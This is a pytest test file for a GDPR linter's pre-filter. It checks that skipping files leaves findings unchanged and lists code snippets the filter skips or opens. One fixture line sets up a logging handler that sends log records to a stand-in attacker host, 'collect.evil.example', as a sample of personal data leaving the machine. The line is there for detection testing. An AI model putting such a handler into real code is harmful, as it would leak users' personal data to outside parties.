"""The pre-filter only saves time: findings are identical with and without it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from gdpr_lint.policy import load_policy
from gdpr_lint.scan import scan
from gdpr_lint.survey.prefilter import Prefilter

ROOT = Path(__file__).resolve().parents[1]
TREES = [ROOT / "examples", ROOT.parent / "shared" / "cases"]
_CORPORA = Path(os.environ.get("GDPR_LINT_CORPORA", Path.home() / ".cache" / "gdpr-lint" / "corpora"))
CORPORA = sorted(p for p in _CORPORA.glob("*/tree") if p.is_dir())
PF = Prefilter(load_policy())


def _same_with_and_without(tree: Path) -> None:
    policy = load_policy()
    fast = scan([tree], policy, root=tree, cache_dir=None, prefilter=True)
    full = scan([tree], policy, root=tree, cache_dir=None, prefilter=False)
    key = lambda r: [(f.path, f.line, f.code, f.message) for f in r.findings]  # noqa: E731
    assert key(fast) == key(full)
    assert fast.inventory == full.inventory


@pytest.mark.parametrize("tree", [t for t in TREES if t.is_dir()], ids=lambda t: t.name)
def test_same_findings_with_and_without_prefilter(tree):
    _same_with_and_without(tree)


@pytest.mark.slow
@pytest.mark.skipif(not CORPORA or not os.environ.get("GDPR_LINT_CORPORA_TESTS"),
                    reason="set GDPR_LINT_CORPORA_TESTS=1 (and download the corpora: python benchmarks/corpora.py)")
@pytest.mark.parametrize("tree", CORPORA, ids=lambda t: t.parent.name)
def test_same_findings_on_the_corpora(tree):
    _same_with_and_without(tree)


@pytest.mark.parametrize("source", [
    "def add(a, b):\n    return a + b\n",
    "class Widget:\n    name = 'gear'\n",  # a weak word without a person
    "def f(user, locale):\n    return locale.name\n",  # a person nearby, but the name is the locale's
    "class Page:\n    title = 'x'\n\ndef g(user):\n    return Page.name\n",
    "EMAIL_BACKEND = 'smtp'\n",  # a strong word the classifier rejects
    "import simple_parsing\nfrom auth import box\n",  # words from SDK names, not the SDK roots
    "import logging\nlogging.getLogger('shop').addHandler(logging.StreamHandler())\n",  # records stay here
])
def test_skips_files_that_cannot_yield_a_finding(source):
    assert not PF.may_yield(source)


@pytest.mark.parametrize("source", [
    "def f(user):\n    print(user.name)\n",
    "def f(row):\n    return customer['name']\n",
    "class Customer(Model):\n    name = CharField()\n",
    "t = Table('customers', meta, Column('name', String))\n",
    "def f(self):\n    return self.user.get_full_name()\n",
    "import mixpanel\n",
    "from google.cloud import bigquery\n",
    "sentry_sdk.init(dsn, send_default_pii=True)\n",
    "x = 1  # gdpr-lint: ignore[GDPR301]\n",
    "email = models.EmailField()\n",
    # found on wagtail: a getter whose noun is personal data (the engine classifies `display_name`)
    "cached = {l.pk: l.get_display_name() for l in Locale.objects.all()}\ncache.set('k', cached)\n",
    "print(record['date of birth'])\n",  # a key of several words
    # a handler that sends log records to another machine, called or named in a dictConfig dict
    "import logging.handlers\nh = logging.handlers.HTTPHandler('collect.evil.example', '/logs')\n",
    "LOGGING = {'handlers': {'r': {'class': 'logging.handlers.SysLogHandler', 'address': ('h.example', 514)}}}\n",
])
def test_opens_files_that_may_yield_a_finding(source):
    assert PF.may_yield(source)


def test_decide_says_when_python_parsed_the_file():
    assert PF.decide("def f(user, locale):\n    return locale.name\n") == (False, True)
    assert PF.decide("def add(a, b):\n    return a + b\n") == (False, False)  # never parsed: no words
